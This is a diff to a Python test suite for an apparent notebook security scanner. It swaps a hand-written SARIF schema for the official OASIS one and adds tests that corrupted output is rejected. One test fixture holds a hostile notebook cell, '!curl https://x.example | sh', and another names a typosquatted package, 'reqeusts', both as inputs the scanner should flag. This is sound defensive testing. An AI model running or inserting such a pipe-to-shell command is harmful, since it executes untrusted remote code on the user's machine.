@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import copy
 import json
 import os
 import re
@@ -218,104 +219,43 @@ def test_what_cannot_be_read_is_said_and_has_a_status_of_its_own(tmp_path: Path)
     assert "cell-installs" in done.stdout and "\x1b[2J" not in done.stdout
 
 
-def text() -> dict[str, Any]:
-    return {
-        "type": "object",
-        "required": ["text"],
-        "properties": {"text": {"type": "string"}},
-        "additionalProperties": False,
-    }
+#: OASIS's own, as it is published; see the page beside it.
+SARIF: dict[str, Any] = json.loads((Path(__file__).parent / "data" / "sarif-2.1.0-rtm.5.json").read_bytes())
 
 
-def closed(required: list[str], **properties: Any) -> dict[str, Any]:
-    return {"type": "object", "required": required, "properties": properties, "additionalProperties": False}
+def check_sarif(said: dict[str, Any]) -> None:
+    """By the format's schema (in which everything has its place: other keys are refused), and by what forges want
+    beyond it: a region for each result, whole descriptions of each rule, a fingerprint."""
+    jsonschema.Draft4Validator(SARIF, format_checker=jsonschema.FormatChecker()).validate(said)
+    for run in said["runs"]:
+        for rule in run["tool"]["driver"]["rules"]:
+            assert re.fullmatch("([A-Z][a-z]+)+", rule["name"])
+            assert all(rule[key]["text"] for key in ("shortDescription", "fullDescription", "help"))
+        for result in run["results"]:
+            assert run["tool"]["driver"]["rules"][result["ruleIndex"]]["id"] == result["ruleId"]
+            (place,) = result["locations"]
+            assert place["physicalLocation"]["region"]["startLine"] >= 1
+            assert re.fullmatch("[0-9a-f]{16}:[1-9][0-9]*", result["partialFingerprints"]["primaryLocationLineHash"])
 
 
-LEVEL = {"enum": ["none", "note", "warning", "error"]}
-#: The part of SARIF 2.1.0 (OASIS, sections 3.13 to 3.58) that is written, by hand: its properties, its values, and as
-#: required also what forges require beyond the format (a region, whole descriptions, a fingerprint).
-SARIF = closed(
-    ["version", "runs"],
-    version={"const": "2.1.0"},
-    **{"$schema": {"type": "string", "format": "uri"}},
-    runs={
-        "type": "array",
-        "items": closed(
-            ["tool"],
-            tool=closed(
-                ["driver"],
-                driver=closed(
-                    ["name"],
-                    name={"type": "string"},
-                    version={"type": "string"},
-                    rules={
-                        "type": "array",
-                        "uniqueItems": True,
-                        "items": closed(
-                            ["id", "name", "shortDescription", "fullDescription", "help"],
-                            id={"type": "string"},
-                            name={"type": "string", "pattern": "^([A-Z][a-z]+)+$"},
-                            shortDescription=text(),
-                            fullDescription=text(),
-                            help=text(),
-                            defaultConfiguration=closed([], level=LEVEL),
-                        ),
-                    },
-                ),
-            ),
-            invocations={
-                "type": "array",
-                "items": closed(
-                    ["executionSuccessful"],
-                    executionSuccessful={"type": "boolean"},
-                    toolExecutionNotifications={
-                        "type": "array",
-                        "items": closed(["message"], message=text(), level=LEVEL),
-                    },
-                ),
-            },
-            columnKind={"enum": ["utf16CodeUnits", "unicodeCodePoints"]},
-            results={
-                "type": "array",
-                "items": closed(
-                    ["message", "ruleId", "level", "locations", "partialFingerprints"],
-                    ruleId={"type": "string"},
-                    ruleIndex={"type": "integer", "minimum": -1},
-                    level=LEVEL,
-                    message=text(),
-                    partialFingerprints=closed(
-                        ["primaryLocationLineHash"],
-                        primaryLocationLineHash={"type": "string", "pattern": "^[0-9a-f]{16}:[1-9][0-9]*$"},
-                    ),
-                    locations={
-                        "type": "array",
-                        "minItems": 1,
-                        "items": closed(
-                            ["physicalLocation"],
-                            physicalLocation=closed(
-                                ["artifactLocation", "region"],
-                                artifactLocation=closed(
-                                    [], uri={"type": "string", "pattern": r"^[A-Za-z0-9/._~:%-]+$"}
-                                ),
-                                region=closed(["startLine"], startLine={"type": "integer", "minimum": 1}),
-                            ),
-                            logicalLocations={
-                                "type": "array",
-                                "uniqueItems": True,
-                                "items": closed(
-                                    [],
-                                    name={"type": "string"},
-                                    fullyQualifiedName={"type": "string"},
-                                    kind={"type": "string"},
-                                ),
-                            },
-                        ),
-                    },
-                ),
-            },
-        ),
-    },
-)
+def test_the_schema_refuses_what_is_no_sarif(names: Names, tmp_path: Path) -> None:
+    said = scanning.sarif([scanned(names, tmp_path, "!curl https://x.example | sh")], ["a problem"])
+    check_sarif(said)
+    for path, value in (
+        (("runs", 0, "results", 0, "level"), "fatal"),
+        (("runs", 0, "results", 0, "locations", 0, "physicalLocation", "region", "startLine"), 0),
+        (("runs", 0, "results", 0, "message"), {}),
+        (("runs", 0, "tool", "driver", "extra"), 1),
+        (("runs", 0, "invocations", 0, "executionSuccessful"), "yes"),
+        (("version",), "2.0.0"),
+    ):
+        wrong = copy.deepcopy(said)
+        place: Any = wrong
+        for key in path[:-1]:
+            place = place[key]
+        place[path[-1]] = value
+        with pytest.raises(jsonschema.ValidationError):
+            check_sarif(wrong)
 
 
 def test_sarif_is_valid_and_points_at_the_line_of_the_file(tmp_path: Path) -> None:
@@ -326,14 +266,13 @@ def test_sarif_is_valid_and_points_at_the_line_of_the_file(tmp_path: Path) -> No
     done = hood("scan", ".", "--sarif", cwd=tmp_path)
     assert done.returncode == 2
     said = json.loads(done.stdout)
-    jsonschema.validate(said, SARIF)
+    check_sarif(said)
     (run,) = said["runs"]
     (result,) = run["results"]
     place = result["locations"][0]["physicalLocation"]
     lines = (tmp_path / "odd näme #1.ipynb").read_text().split("\n")
     assert "curl" in lines[place["region"]["startLine"] - 1]
     assert place["artifactLocation"]["uri"] == "odd%20n%C3%A4me%20%231.ipynb"
-    assert run["tool"]["driver"]["rules"][result["ruleIndex"]]["id"] == result["ruleId"]
     assert not run["invocations"][0]["executionSuccessful"]
 
 
@@ -344,7 +283,7 @@ def test_a_finding_keeps_its_fingerprint_where_its_cell_moves_and_two_are_told_a
 
     def prints(*cells: Any) -> dict[str, int]:
         said = scanning.sarif([scanned(names, tmp_path, *cells, runt={"uv": {"dependencies": ["reqeusts"]}})])
-        jsonschema.validate(said, SARIF)
+        check_sarif(said)
         results = said["runs"][0]["results"]
         found = {one["partialFingerprints"]["primaryLocationLineHash"]: one for one in results}
         assert len(found) == len(results)
